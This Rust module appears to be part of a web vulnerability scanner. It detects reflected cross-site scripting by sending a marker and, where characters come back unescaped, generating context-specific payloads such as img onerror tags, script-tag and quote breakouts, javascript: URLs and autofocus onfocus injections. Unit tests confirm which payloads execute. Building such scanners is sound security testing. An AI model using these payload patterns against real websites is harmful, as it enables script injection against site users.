//! Payloads that fit where a marker stands.

use super::markup::Context;

/// The signs behind the token of a marker.
const SIGNS: &str = "<'\">";

/// A harmless text that tells where it stands, and which signs come back as they are.
pub(super) fn marker(token: &str) -> String {
    format!("{token}{SIGNS}")
}

/// The payload that fits a context, for a token. `None` where nothing breaks out of it. `page` is the page with the marker.
pub(super) fn fitted(context: &Context, page: &str, marked: &str, token: &str) -> Option<String> {
    let image = format!("<img src=x onerror={token}()>");
    let kept = |sign: char| {
        let mut ends = page.match_indices(marked).map(|(at, _)| page.get(at + marked.len()..).unwrap_or(""));
        ends.any(|after| signs_kept(after).contains(&sign))
    };
    match context {
        Context::Text => kept('<').then_some(image),
        Context::Raw(element) => kept('<').then(|| format!("</{element}>{image}")),
        Context::Comment => kept('>').then(|| format!("-->{image}")),
        Context::Name => Some(format!("x {image}")),
        Context::Script => Some(match (quote_before(page, marked), kept('<')) {
            (_, true) => format!("</script>{image}"),
            (Some('`'), _) => format!("${{{token}()}}"),
            (Some(quote), _) => format!("{quote}-{token}()-{quote}"),
            (None, _) => format!("{token}()"),
        }),
        Context::Attribute(name, rest) => {
            // The value ends at the sign that is its quote; all of the signs are in it where they are escaped.
            let breaks = match rest.as_str() {
                "<'" => "\"",
                "<" => "'",
                _ if is_unquoted(page, marked) => " ",
                _ if name.starts_with("on") => return Some(format!("'-{token}()-'")),
                _ if ["href", "src", "action", "formaction", "data", "xlink:href"]
                    .contains(&name.as_str()) =>
                {
                    return Some(format!("javascript:{token}()"));
                }
                _ => return None,
            };
            Some(match kept('<') && breaks != " " {
                true => format!("{breaks}>{image}"),
                false => format!("{breaks} autofocus onfocus={token}() x={breaks}"),
            })
        }
    }
}

/// The signs of a marker that stand behind its token as they were sent; others are escaped, or gone.
fn signs_kept(mut after: &str) -> Vec<char> {
    let mut kept = Vec::new();
    for sign in SIGNS.chars() {
        let length = match after.chars().next() {
            Some(c) if c == sign => {
                kept.push(sign);
                1
            }
            Some('&') => after.find(';').filter(|end| *end < 8).map_or(0, |end| end + 1),
            Some('\\') if after.get(1..2) == Some("u") => 6,
            Some('\\') => 2,
            Some('%') => 3,
            // The sign is gone.
            _ => 0,
        };
        after = after.get(length..).unwrap_or("");
    }
    kept
}

/// The quote of the string that a token stands in, in a script.
fn quote_before(page: &str, token: &str) -> Option<char> {
    let before = page.split(token).next()?;
    let line = before.rsplit(['\n', ';', '>']).next()?;
    line.chars().rev().find(|c| ['"', '\'', '`'].contains(c))
}

/// Whether a token stands in an attribute that has no quotes.
fn is_unquoted(page: &str, token: &str) -> bool {
    page.split(token).next().is_some_and(|before| before.ends_with('='))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attacks::xss::markup::{contexts, runs};

    /// A page that puts a text into a template.
    fn page(template: &str, text: &str, escapes: fn(&str) -> String) -> String {
        template.replace("{}", &escapes(text))
    }

    #[test]
    fn a_sign_is_kept_only_where_it_stands_as_it_was_sent() {
        for (after, expected) in [
            ("<'\">rest", "<'\">"),
            ("&lt;'&quot;&gt;</p>", "'"),
            ("\\u003c\\'\\\">", ">"),
            ("%3C'%22%3E", "'"),
            ("'\"</p>", "'\""),
            ("", ""),
        ] {
            assert_eq!(signs_kept(after).iter().collect::<String>(), expected, "{after}");
        }
    }

    #[test]
    fn a_fitted_payload_runs_where_the_page_does_not_escape_for_its_context() {
        let plain = |text: &str| text.to_owned();
        let no_tags = |text: &str| text.replace('<', "&lt;").replace('>', "&gt;");
        let all = |text: &str| {
            let text = text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
            text.replace('"', "&quot;").replace('\'', "&#39;")
        };
        type Escapes = fn(&str) -> String;
        for (template, escapes, expected) in [
            ("<p>{}</p>", plain as Escapes, true),
            ("<p>{}</p>", no_tags, false),
            ("<title>{}</title>", plain, true),
            ("<title>{}</title>", all, false),
            ("<input value=\"{}\">", plain, true),
            ("<input value=\"{}\">", no_tags, true),
            ("<input value='{}'>", no_tags, true),
            ("<input value=\"{}\">", all, false),
            ("<input value={}>", all, true),
            ("<a href=\"{}\">", all, true),
            ("<a href=\"/go?to={}\">", all, false),
            ("<img src=\"{}\">", all, false),
            ("<!-- {} -->", plain, true),
            ("<!-- {} -->", all, false),
            ("<script>var q = '{}';</script>", plain, true),
            ("<script>var q = '{}';</script>", no_tags, true),
            ("<script>var q = \"{}\";</script>", all, false),
            ("<button onclick=\"go('{}')\">", all, true),
        ] {
            let marked = page(template, &marker("dwmark"), escapes);
            let ran = contexts(&marked, "dwmark").iter().any(|context| {
                let payload = fitted(context, &marked, "dwmark", "dwrun");
                payload.is_some_and(|payload| runs(&page(template, &payload, escapes), "dwrun").is_some())
            });
            assert_eq!(ran, expected, "{template} {marked}");
        }
    }
}
